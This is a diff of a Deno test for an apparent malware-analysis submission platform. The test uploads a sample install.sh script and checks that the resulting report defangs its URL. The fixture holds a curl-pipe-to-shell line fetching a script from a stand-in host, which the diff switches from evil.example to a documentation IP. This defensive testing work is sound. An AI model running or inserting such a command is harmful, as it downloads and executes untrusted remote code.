@@ -30,7 +30,7 @@ async function formsOf(platform: Platform, id: string): Promise<Record<string, s
 Deno.test("a report leaves in every form, the same bytes from two reports processes, also by the command line", async () => {
   await using platform = await startPlatform({ onTestStack: true });
   const body = new FormData();
-  body.append("file", new File(["#!/bin/sh\ncurl http://evil.example/a.sh | sh\n"], "install.sh"));
+  body.append("file", new File(["#!/bin/sh\ncurl http://198.51.100.7/a.sh | sh\n"], "install.sh"));
   body.append("options", JSON.stringify({ priority: "interactive", tlp: "green" }));
   const { tasks: [task] } = await platform.ask<{ tasks: [{ id: string }] }>("/api/v1/submissions", {
     method: "POST",
@@ -41,7 +41,7 @@ Deno.test("a report leaves in every form, the same bytes from two reports proces
     return status === "complete" ? status : null;
   });
   const first = await formsOf(platform, task.id);
-  assert.match(first["text"]!, /evil\[\.\]example/);
+  assert.match(first["text"]!, /hxxp\[:\]\/\/198\[\.\]51/);
 
   const ready = await (await platform.request("/health/ready")).json();
   assert.equal(ready.checks.reports.status, "ready");
